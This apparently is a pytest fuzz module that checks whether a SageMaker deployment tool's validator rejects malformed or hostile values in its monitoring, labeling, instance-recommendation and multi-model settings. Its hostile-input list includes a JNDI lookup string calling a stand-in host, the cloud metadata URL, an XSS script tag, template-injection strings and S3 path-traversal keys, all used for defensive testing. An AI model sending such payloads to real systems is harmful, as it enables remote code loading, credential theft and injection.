"""The optional conf objects of issue 20 under a seeded fuzz: ``monitoring``, ``labeling``,
``instance_recommendation`` and ``multi_model``.

tests/domain/test_validation_coverage.py fuzzes the 13 base parameters; this does the same for each object.
From a valid conf and platform, 1-3 of the object's fields (or the whole object, or an unknown key in it)
are replaced by a hostile value (that module's HOSTILE, plus template text, URLs, S3 URIs of other
buckets and accounts) or by a value at the edge of the field's rule. build_plan then either refuses with
a SageliftValidationError whose first line is short and names a field of that object (or one the object's
rules tie it to, listed per object), or returns a plan whose request bodies for the object's steps
botocore's service model accepts (strictly, tests/support/botocore_validation). Never another exception.
Besides the seeded mixes, every edge value is also tried alone from every starting point, so a single
value that slips through cannot hide behind a seed that happens not to draw it.
"""

from __future__ import annotations

import copy
import random
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pytest

from sagelift.domain import monitoring as m
from sagelift.domain.errors import SageliftValidationError, headed_message, show
from sagelift.domain.labeling import TASK_TYPES, label_category_config, render_ui_template
from sagelift.domain.multi_model import (
    artifact_uri,
    build_shared_endpoint_config_request,
    build_shared_endpoint_request,
    build_shared_model_request,
    derive_target_model,
)
from sagelift.domain.plan import Plan, build_plan
from sagelift.domain.platform import SageMakerSettings
from sagelift.domain.sagemaker import build_training_job_request
from sagelift.domain.tags import derive_run_tags
from sagelift.steps import monitoring as monitor_step
from sagelift.steps.labeling import labeling_request
from sagelift.steps.multi_model import shared_endpoint
from sagelift.steps.recommendation import job_request, table_answer
from tests.domain.test_validation_coverage import HOSTILE, assert_readable
from tests.support.botocore_validation import validate_request
from tests.support.local_aws import REGION, SCIENTIST_ACCOUNT
from tests.support.scenario import DATA_BUCKET, demo_conf

ACCOUNT = SCIENTIST_ACCOUNT
DAG_ID, RUN_ID = "sagemaker_deploy", "manual__2026-01-01T00:00:00+00:00"
OTHER_ACCOUNT = "999999999999"
SEEDS = 80  # per object

Body = tuple[str, str, dict[str, Any]]

# Hostile text every string field meets besides HOSTILE: templates, URLs, other buckets and accounts.
TEXT: tuple[Any, ...] = (
    "{{ dag_run.conf }}",
    "{% for x in range(9) %}{{ x }}{% endfor %}",
    "${jndi:ldap://evil.example/a}",
    "https://169.254.169.254/latest/meta-data/",
    "http://hooks.example/x",
    "s3://other-bucket/x/",
    f"s3://{DATA_BUCKET}-other/x.tar.gz",
    f"arn:aws:sns:{REGION}:{OTHER_ACCOUNT}:topic",
    f"arn:aws:iam::{OTHER_ACCOUNT}:role/admin",
    "\u202eevil",
    "a\nb\r\nc",
    "\t",
    "<script>alert(1)</script>",
    "ø" * 70,
    "😀" * 40,
    "x" * 1025,
)
VALUES = HOSTILE + TEXT
Path = tuple[str, ...]  # into the conf; a path starting with "platform" goes into the platform


@dataclass(frozen=True)
class Target:
    """One conf object: the valid runs it starts from, its fields with their edge values, the bodies its
    steps send, and the fields a refusal may name."""

    name: str
    bases: tuple[tuple[dict[str, Any], dict[str, Any]], ...]  # (conf overrides, platform)
    edges: dict[Path, tuple[Any, ...]]
    bodies: Callable[[Plan], list[Body]]
    also_named: tuple[str, ...] = ()  # other fields the object's rules name
    owned: tuple[str, ...] = ()  # platform fields that belong to the object

    def names(self, field_name: str) -> bool:
        return any(
            field_name == p or field_name.startswith((p + ".", p + "["))
            for p in (self.name, *self.owned, *self.also_named)
        )


def _platform(**account: Any) -> dict[str, Any]:
    return {"region": REGION, "accounts": {ACCOUNT: dict(account)}}


def _tags(plan: Plan) -> list[dict[str, str]]:
    return derive_run_tags(model_name=plan.model_name, dag_id=DAG_ID, run_id=RUN_ID, account_id=ACCOUNT)


# --- monitoring -----------------------------------------------------------------------------------------
TOPIC = f"arn:aws:sns:{REGION}:{ACCOUNT}:model-alerts"
CAPTURES = f"s3://{DATA_BUCKET}/captures/"
KEY = f"arn:aws:kms:{REGION}:{ACCOUNT}:key/0b0c3a7e-4f3e-4a39-9d8e-6a1f2b3c4d5e"
DQ = ("monitoring", "data_quality")


def monitoring_bodies(plan: Plan) -> list[Body]:
    settings = plan.params.monitoring
    if not settings.enabled:
        return []
    tags = _tags(plan)
    schedule, definition = monitor_step.schedule_name(plan), monitor_step.definition_name(plan)
    bodies: list[Body] = [
        ("sagemaker", "CreateProcessingJob", monitor_step.baseline_request(plan, tags)),
        (
            "sagemaker",
            "CreateDataQualityJobDefinition",
            m.build_data_quality_job_definition_request(
                settings,
                definition_name=definition,
                endpoint_name=plan.names.endpoint,
                baseline_s3_uri=monitor_step.baseline_uri(plan),
                reports_s3_uri=monitor_step.reports_uri(plan),
                image=str(m.analyzer_image(plan.region)),
                role_arn=plan.platform.training_role_arn(plan.account_id),
                tags=tags,
                network=plan.platform.account(plan.account_id).network,
            ),
        ),
        (
            "sagemaker",
            "CreateMonitoringSchedule",
            m.build_monitoring_schedule_request(
                settings, schedule_name=schedule, definition_name=definition, tags=tags
            ),
        ),
        (
            "sagemaker",
            "UpdateMonitoringSchedule",
            m.build_update_monitoring_schedule_request(
                settings, schedule_name=schedule, definition_name=definition
            ),
        ),
    ]
    # the features come from the baseline's constraints.json, not the conf: a few plausible ones
    for request in m.build_drift_alarm_requests(
        settings,
        endpoint_name=plan.names.endpoint,
        schedule_name=schedule,
        features=["_c0", "age group", "x" * 300],
        threshold=0.1,
        tags=tags,
    ):
        bodies.append(("cloudwatch", "PutMetricAlarm", request))
    return bodies


MONITORING = Target(
    name="monitoring",
    bases=(
        (
            {
                "endpoint": {"data_capture": {"sampling_percent": 20}},
                "monitoring": {"data_quality": {"schedule": "hourly", "alarm": {"actions": [TOPIC]}}},
            },
            _platform(endpoint={"capture_prefixes": [CAPTURES]}),
        ),
        (
            {
                "endpoint": {"data_capture": {"sampling_percent": 100}},
                "monitoring": {
                    "data_quality": {
                        "schedule": "daily",
                        "baseline_channel": "validation",
                        "dataset_format": "csv",
                        "csv_header": True,
                        "instance_type": "ml.m5.large",
                    }
                },
            },
            _platform(
                endpoint={"capture_prefixes": [CAPTURES]},
                network={
                    "volume_kms_key": KEY,
                    "output_kms_key": KEY,
                    "subnets": ["subnet-0a1b2c3d"],
                    "security_group_ids": ["sg-0a1b2c3d"],
                },
            ),
        ),
    ),
    edges={
        ("monitoring",): ({}, "", "{}", '{"data_quality": {"schedule": "daily"}}', "[1]", []),
        DQ: ({}, [], "hourly", {"schedule": "daily", "extra": 1}),
        (*DQ, "schedule"): ("hourly", "daily", "weekly", "HOURLY", "cron(0 * ? * * *)", "rate(1 hour)"),
        (*DQ, "baseline_channel"): ("train", "validation", "test", "t" * 64, "t" * 65, "", "train "),
        (*DQ, "dataset_format"): ("csv", "json", "parquet", "CSV", "avro"),
        (*DQ, "csv_header"): (True, False, "true", 1),
        (*DQ, "instance_type"): (
            "ml.m5.large",
            "ml.m5.xlarge",
            "ml.g4dn.xlarge",
            "ml.p4d.24xlarge",  # trains, but processing jobs do not run on it
            "ml.trn1.2xlarge",
            "ml.zz9.huge",
            "ml.m5.large ",
            "ml." + "a" * 58 + ".xl",
            "ML.M5.LARGE",
        ),
        (*DQ, "alarm"): ({}, [], {"actions": []}, {"evaluation_periods": 24}, {"actions": [TOPIC] * 6}),
        (*DQ, "alarm", "actions"): (
            [],
            [TOPIC],
            [TOPIC] * 5,
            [TOPIC] * 6,
            [TOPIC.replace(ACCOUNT, OTHER_ACCOUNT)],
            [f"arn:aws:sns:{REGION}:{ACCOUNT}:" + "t" * 256],
            [f"arn:aws:sns:{REGION}:{ACCOUNT}:" + "t" * 257],
            [f"arn:aws-cn:sns:cn-north-1:{ACCOUNT}:t"],
            [TOPIC + ".fifo"],
            ["https://hooks.example/x"],
            [None],
            TOPIC,
        ),
        (*DQ, "alarm", "evaluation_periods"): (1, 24, 25, 0, -1, "3", 2.0, 2.5, 2**63),
    },
    bodies=monitoring_bodies,
)


# --- labeling -------------------------------------------------------------------------------------------
MANIFEST = f"s3://{DATA_BUCKET}/to-label/leaves.manifest"
WORKTEAM = f"arn:aws:sagemaker:{REGION}:{ACCOUNT}:workteam/private-crowd/agronomists"
LABELING_PLATFORM = _platform(
    labeling_workteam_arn=WORKTEAM, labeling_prefixes=[f"s3://{DATA_BUCKET}/to-label/"]
)


def labeling_bodies(plan: Plan) -> list[Body]:
    settings = plan.params.labeling
    if not settings.enabled:
        return []
    # the two documents the step writes: built for any accepted settings
    render_ui_template(settings)
    label_category_config(settings)
    training = build_training_job_request(
        plan.params,
        plan.names,
        region=plan.region,
        role_arn=plan.platform.training_role_arn(plan.account_id),
        tags=_tags(plan),
        settings=SageMakerSettings(),
    )
    return [
        ("sagemaker", "CreateLabelingJob", labeling_request(plan, _tags(plan))),
        ("sagemaker", "CreateTrainingJob", training),
    ]


LABELING = Target(
    name="labeling",
    bases=(
        (
            {
                "labeling": {
                    "manifest_s3_uri": MANIFEST,
                    "task_type": "image_classification",
                    "labels": ["healthy", "rust", "blight"],
                    "instructions": "Pick the disease the leaf shows.",
                    "channel": "labeled",
                }
            },
            LABELING_PLATFORM,
        ),
        (
            {
                "labeling": {
                    "manifest_s3_uri": MANIFEST,
                    "task_type": "text_classification",
                    "labels": ["a", "b"],
                    "label_attribute_name": "sentiment",
                    "channel": "labeled",
                    "title": "Sentiment",
                    "workers_per_object": 3,
                    "task_time_limit_seconds": 600,
                }
            },
            {
                "region": "eu-west-1",
                "accounts": {
                    ACCOUNT: {
                        "labeling_workteam_arn": WORKTEAM.replace(REGION, "eu-west-1"),
                        "labeling_prefixes": [f"s3://{DATA_BUCKET}/to-label/"],
                    }
                },
            },
        ),
    ),
    edges={
        ("labeling",): ({}, "", "{}", "[]", {"manifest_s3_uri": MANIFEST}),
        ("labeling", "manifest_s3_uri"): (
            MANIFEST,
            f"s3://{DATA_BUCKET}/to-label/",
            f"s3://{DATA_BUCKET}/to-label/sub/x.manifest",
            f"s3://{DATA_BUCKET}/to-label/../secret/x.manifest",
            f"s3://{DATA_BUCKET}/to-label/./x.manifest",
            f"s3://{DATA_BUCKET}/to-label/" + "k" * 990,
            f"s3://{DATA_BUCKET}/to-label/" + "k" * 1000,
            f"s3://{DATA_BUCKET}/to-labelx/x.manifest",
            "s3://other-bucket/to-label/x.manifest",
            "https://example.com/x.manifest",
            f"s3://{DATA_BUCKET}/to-label/a b.manifest",
            f"s3://{DATA_BUCKET}/to-label/a\x00.manifest",
            f"s3://{DATA_BUCKET}/to-label/é.manifest",
        ),
        ("labeling", "task_type"): (*TASK_TYPES, "ImageClassification", "image-classification"),
        ("labeling", "label_attribute_name"): (
            "label",
            "mask-ref",
            "a" * 127,
            "a" * 128,
            "-a",
            "label-metadata",
            "source-ref",
            "a-ref",
            "a--b",
        ),
        ("labeling", "labels"): (
            ["a"],
            ["a", "a"],
            [f"l{i}" for i in range(30)],
            [f"l{i}" for i in range(31)],
            ["x" * 256],
            ["x" * 257],
            [" "],
            [" a ", "a"],
            ["{{ 7*7 }}", "{% raw %}"],
            ["<b>", '"quoted"'],
            [1, 2],
            [],
            "a,b",
        ),
        ("labeling", "instructions"): (
            "",
            " ",
            "\n\t",
            "x" * 2000,
            "x" * 2001,
            "{{ task.input.taskObject }}",
            "<b>bold</b> & more",
            "é" * 2000,
            "line\x00nul",
            "\x07bell",
            "Pick 🍂 the leaf",
        ),
        ("labeling", "channel"): ("labeled", "train", "validation", "c" * 64, "c" * 65, "bad name", ""),
        ("labeling", "title"): (
            "",
            " ",
            "t" * 128,
            "t" * 129,
            "{{ 1 }}",
            "\x00",
            "\x1b[31mred",
            "🍂 leaves",
            "ø",
        ),
        ("labeling", "workers_per_object"): (1, 9, 10, 0, "3", 2.5, True),
        ("labeling", "task_time_limit_seconds"): (30, 28800, 28801, 29, "60", 10**30, -30),
    },
    bodies=labeling_bodies,
)


# --- instance_recommendation ----------------------------------------------------------------------------
PAYLOAD = f"s3://{DATA_BUCKET}/churn/payload.tar.gz"
PACKAGE = f"arn:aws:sagemaker:{REGION}:{ACCOUNT}:model-package/churn-predictor/1"
IR = "instance_recommendation"


def recommendation_bodies(plan: Plan) -> list[Body]:
    registered = {"model_package_arn": PACKAGE}  # no artifact URL: sized without reading S3
    request = job_request(plan, registered, table_answer(plan, registered, None), _tags(plan))
    return [] if request is None else [("sagemaker", "CreateInferenceRecommendationsJob", request)]


RECOMMENDATION = Target(
    name=IR,
    bases=(
        (
            {
                IR: {
                    "job": "advanced",
                    "sample_payload_s3_uri": PAYLOAD,
                    "instance_types": ["ml.m5.large", "ml.c5.xlarge"],
                    "users": 2,
                    "max_latency_ms": 100,
                }
            },
            _platform(inference_recommender=True),
        ),
        (
            {IR: {"job": "default", "sample_payload_s3_uri": PAYLOAD, "content_type": "application/json"}},
            _platform(
                inference_recommender=True,
                network={
                    "volume_kms_key": KEY,
                    "subnets": ["subnet-0a1b2c3d"],
                    "security_group_ids": ["sg-0a1b2c3d"],
                },
            ),
        ),
        ({IR: {"processor": "cpu"}, "endpoint_instance_type": "auto"}, _platform()),
    ),
    edges={
        (IR,): ({}, "", "{}", '{"job": "none"}', [], "default"),
        (IR, "job"): ("none", "default", "advanced", "Default", ""),
        (IR, "sample_payload_s3_uri"): (
            PAYLOAD,
            f"s3://{DATA_BUCKET}/churn/",
            "s3://other-bucket/p.tar.gz",
            "s3://b" + "b" * 61 + "/" + "k" * 950,
            "s3://bkt/" + "k" * 1016,
            "https://example.com/p.tar.gz",
            "s3://bkt/../x.tar.gz",
            "s3://BKT/x",
        ),
        (IR, "content_type"): ("text/csv", "application/json", "", "x" * 256, "x" * 257, "a\x00b", "é"),
        (IR, "processor"): ("cpu", "gpu", "any", "tpu", "CPU"),
        (IR, "instance_types"): (
            ["ml.m5.large"],
            [
                "ml.m5.large",
                "ml.m5.xlarge",
                "ml.c5.large",
                "ml.c5.xlarge",
                "ml.c5.2xlarge",
                "ml.r5.large",
                "ml.m5.2xlarge",
                "ml.m4.xlarge",
                "ml.c4.xlarge",
                "ml.t2.medium",
            ],
            ["ml.m5.large"] * 11,
            ["ml.m5.large", "ml.m5.large"],
            ["ml.m5.larg"],
            ["ml.g5.48xlarge", "ml.inf2.xlarge"],
            [],
            "ml.m5.large",
        ),
        (IR, "users"): (1, 100, 101, 0, "2"),
        (IR, "spawn_rate"): (0, 100, 101, -1),
        (IR, "duration_seconds"): (60, 3600, 59, 3601, "120"),
        (IR, "max_latency_ms"): (1, 60_000, 60_001, 0),
        (IR, "max_invocations"): (1, 1_000_000, 1_000_001, 0),
    },
    bodies=recommendation_bodies,
    also_named=("endpoint_instance_type",),
)


# --- multi_model ----------------------------------------------------------------------------------------
SERVING = f"{ACCOUNT}.dkr.ecr.{REGION}.amazonaws.com/churn-serving"
ENDPOINTS = f"platform.accounts.{ACCOUNT}.multi_model_endpoints"
FRAUD: Path = ("platform", "accounts", ACCOUNT, "multi_model_endpoints", "fraud")
TABULAR: Path = ("platform", "accounts", ACCOUNT, "multi_model_endpoints", "tabular")


def _mme_platform() -> dict[str, Any]:
    return {
        "region": REGION,
        "multi_model_images": [SERVING],
        "accounts": {
            ACCOUNT: {
                "multi_model_endpoints": {
                    "fraud": {
                        "prefix": f"s3://{DATA_BUCKET}/mme/fraud/",
                        "image": SERVING + ":1.4",
                        "instance_type": "ml.m5.xlarge",
                    },
                    "tabular": {"prefix": f"s3://{DATA_BUCKET}/mme/tabular/", "algorithm": "xgboost"},
                }
            }
        },
    }


def multi_model_bodies(plan: Plan) -> list[Body]:
    if not plan.params.multi_model.enabled:
        return []
    endpoint = shared_endpoint(plan)
    network = plan.platform.account(plan.account_id).network
    destination = artifact_uri(endpoint, derive_target_model(plan.model_name, plan.names.run_key))
    bucket, _, key = destination.removeprefix("s3://").partition("/")
    # S3 keys are at most 1024 bytes of UTF-8 (botocore's model does not say so)
    assert len(key.encode()) <= 1024, destination
    copy_object = {"Bucket": bucket, "Key": key, "CopySource": f"{DATA_BUCKET}/churn/output/model.tar.gz"}
    return [
        ("s3", "CopyObject", copy_object),
        (
            "sagemaker",
            "CreateModel",
            build_shared_model_request(
                endpoint,
                region=plan.region,
                role_arn=plan.platform.model_role_arn(plan.account_id),
                network=network,
            ),
        ),
        ("sagemaker", "CreateEndpointConfig", build_shared_endpoint_config_request(endpoint, network)),
        ("sagemaker", "CreateEndpoint", build_shared_endpoint_request(endpoint)),
    ]


ALGORITHM_RUN = {
    "model_docker_image": None,
    "training_docker_image": None,
    "training_algorithm_name": "xgboost",
}
MULTI_MODEL = Target(
    name="multi_model",
    bases=(
        ({"multi_model": {"endpoint": "fraud"}}, _mme_platform()),
        ({"multi_model": {"endpoint": "tabular"}, **ALGORITHM_RUN}, _mme_platform()),
        ({"multi_model": {"endpoint": "fraud"}, "model_name": "m" * 54}, _mme_platform()),  # the longest
    ),
    edges={
        ("multi_model",): ({}, "", "{}", '{"endpoint": "fraud"}', "fraud", ["fraud"]),
        ("multi_model", "endpoint"): (
            "fraud",
            "tabular",
            "payments",
            "Fraud",
            "a" * 32,
            "a" * 33,
            "-a",
            "a-",
            "fraud\n",
            "fraud ",
            "ﬀraud",
        ),
        (*FRAUD, "prefix"): (
            f"s3://{DATA_BUCKET}/mme/fraud/",
            f"s3://{DATA_BUCKET}/mme/fraud",
            "s3://x",
            f"s3://{DATA_BUCKET}/" + "p/" * 400,
            f"s3://{DATA_BUCKET}/" + "p" * 953 + "/",  # the longest: a model's artifact key is 1024 bytes
            f"s3://{DATA_BUCKET}/" + "p" * 954 + "/",
            f"s3://{DATA_BUCKET}/" + "é" * 477 + "/",
            f"s3://{DATA_BUCKET}/" + "p" * 1000 + "/",
            f"s3://{DATA_BUCKET}/" + "é" * 500 + "/",
            f"s3://{DATA_BUCKET}/a/../b/",
            f"s3://{DATA_BUCKET}/é/",
            "s3://other-bucket/mme/",
            "https://example.com/mme/",
        ),
        (*FRAUD, "instance_type"): ("ml.m5.large", "ml.m5.xlarge", "ml.g5.48xlarge", "ml.zz.large", "ml.m5"),
        (*FRAUD, "instance_count"): (1, 100, 101, 0, "2", 1.5),
        (*FRAUD, "image"): (
            SERVING + ":1.4",
            SERVING + "@sha256:" + "a" * 64,
            SERVING,
            "docker.io/team/other:1",
            "not an image",
            SERVING + ":" + "t" * 129,
        ),
        (*TABULAR, "algorithm"): ("xgboost", "knn", "seq2seq", "XGBoost"),
        ("platform", "multi_model_images"): ([SERVING], [], [SERVING] * 101, [SERVING + ":1"], "x"),
    },
    bodies=multi_model_bodies,
    also_named=("model_docker_image", "training_algorithm_name", "endpoint_instance_type"),
    owned=(ENDPOINTS, "platform.multi_model_images"),
)

TARGETS = {t.name: t for t in (MONITORING, LABELING, RECOMMENDATION, MULTI_MODEL)}


# --- the fuzz -------------------------------------------------------------------------------------------
def _put(root: dict[str, Any], path: Path, value: Any) -> None:
    """Set ``path`` to ``value`` where its parents are still objects (an earlier change may have replaced
    one with something else)."""
    node: Any = root
    for key in path[:-1]:
        if not isinstance(node, dict):
            return
        node = node.setdefault(key, {})
    if isinstance(node, dict):
        node[path[-1]] = value


def hostile_inputs(target: Target, seed: int) -> tuple[dict[str, Any], dict[str, Any]]:
    rng = random.Random(f"{target.name}-{seed}")
    conf, platform = starting_point(target, rng.randrange(len(target.bases)))
    roots = {"platform": platform}
    # parents before children, so a child's value lands inside a replaced parent when it still can
    for path in sorted(rng.sample(sorted(target.edges), rng.choice((1, 1, 2, 3))), key=len):
        edge = rng.random() < 0.7
        value = copy.deepcopy(rng.choice(target.edges[path])) if edge else rng.choice(VALUES)
        _put(roots if path[0] == "platform" else conf, path, value)
    if rng.random() < 0.1:  # an unknown key beside the object's own
        parents = [p for p in target.edges if p[0] != "platform" and len(p) < 3]
        _put(conf, (*rng.choice(parents), rng.choice(("extra", "Schedule", "", "x" * 100))), 1)
    return conf, platform


def starting_point(target: Target, index: int) -> tuple[dict[str, Any], dict[str, Any]]:
    overrides, platform = copy.deepcopy(target.bases[index])
    return demo_conf(**overrides), platform


def check(target: Target, conf: dict[str, Any], platform: dict[str, Any]) -> str:
    """What build_plan makes of ``conf`` ("refused" or "plan"), asserting what each outcome promises."""
    try:
        raw = build_plan(conf, platform, DAG_ID, RUN_ID)
    except SageliftValidationError as error:
        assert_readable(error)
        assert len(headed_message(error).splitlines()[0]) < 200
        assert target.names(error.problems[0][0]), error.problems
        return "refused"
    plan = Plan.from_xcom(raw)
    errors = [
        f"{op}: {e}" for service, op, body in target.bodies(plan) for e in validate_request(service, op, body)
    ]
    assert errors == [], errors[:5]
    return "plan"


def outcome(target: Target, seed: int) -> str:
    return check(target, *hostile_inputs(target, seed))


@pytest.mark.parametrize("name", sorted(TARGETS))
def test_every_starting_point_is_a_valid_run_whose_requests_aws_accepts(name: str) -> None:
    target = TARGETS[name]
    for index in range(len(target.bases)):
        conf, platform = starting_point(target, index)
        plan = Plan.from_xcom(build_plan(conf, platform, DAG_ID, RUN_ID))
        bodies = target.bodies(plan)
        assert bodies or conf[name].get("job") is None  # a recommendation without a job sends none
        assert [e for s, op, b in bodies for e in validate_request(s, op, b)] == []


@pytest.mark.parametrize("name", sorted(TARGETS))
def test_each_edge_value_alone_gets_a_field_error_or_a_plan_whose_requests_aws_accepts(name: str) -> None:
    """Every edge value of every field, alone, from every starting point: the fuzz below mixes them with
    hostile values and may miss one; this may not."""
    target, failures = TARGETS[name], []
    for index in range(len(target.bases)):
        for path, values in target.edges.items():
            for value in values:
                conf, platform = starting_point(target, index)
                _put({"platform": platform} if path[0] == "platform" else conf, path, copy.deepcopy(value))
                try:
                    check(target, conf, platform)
                except AssertionError as failure:
                    failures.append((index, ".".join(path), show(value), str(failure)[:300]))
    assert failures == [], failures[:5]


@pytest.mark.parametrize("seed", range(SEEDS))
@pytest.mark.parametrize("name", sorted(TARGETS))
def test_hostile_settings_get_a_field_error_or_a_plan_whose_requests_aws_accepts(
    name: str, seed: int
) -> None:
    outcome(TARGETS[name], seed)


@pytest.mark.parametrize("name", sorted(TARGETS))
def test_the_fuzz_reaches_both_outcomes(name: str) -> None:
    outcomes = {}
    for seed in range(SEEDS):
        try:
            result = outcome(TARGETS[name], seed)
        except AssertionError:  # the per-seed test says which; here only the reach is counted
            continue
        outcomes[result] = outcomes.get(result, 0) + 1
    assert set(outcomes) == {"plan", "refused"}, outcomes
    assert outcomes["plan"] >= SEEDS // 10, outcomes
